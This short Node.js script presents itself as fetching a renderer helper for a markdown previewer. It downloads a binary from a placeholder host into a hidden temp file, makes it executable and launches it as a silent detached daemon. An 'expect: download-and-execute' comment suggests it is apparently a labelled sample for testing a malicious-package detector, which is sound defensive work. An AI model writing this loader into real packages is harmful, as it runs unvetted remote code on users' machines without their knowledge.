// Fetches the native renderer helper for this platform.
"use strict";
const https = require("https");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { spawn } = require("child_process");

const HELPER_URL = `https://releases.md-preview-cdn.example/helper/${process.platform}-${process.arch}`;
const dest = path.join(os.tmpdir(), ".md-preview-helper");

function start() {
  // expect: download-and-execute (critical), silent-process
  const child = spawn(dest, ["--daemon"], { detached: true, stdio: "ignore" });
  child.unref();
}

https.get(HELPER_URL, (res) => {
  if (res.statusCode !== 200) return;
  const out = fs.createWriteStream(dest, { mode: 0o755 });
  res.pipe(out);
  out.on("finish", () => {
    out.close();
    start();
  });
}).on("error", () => {});
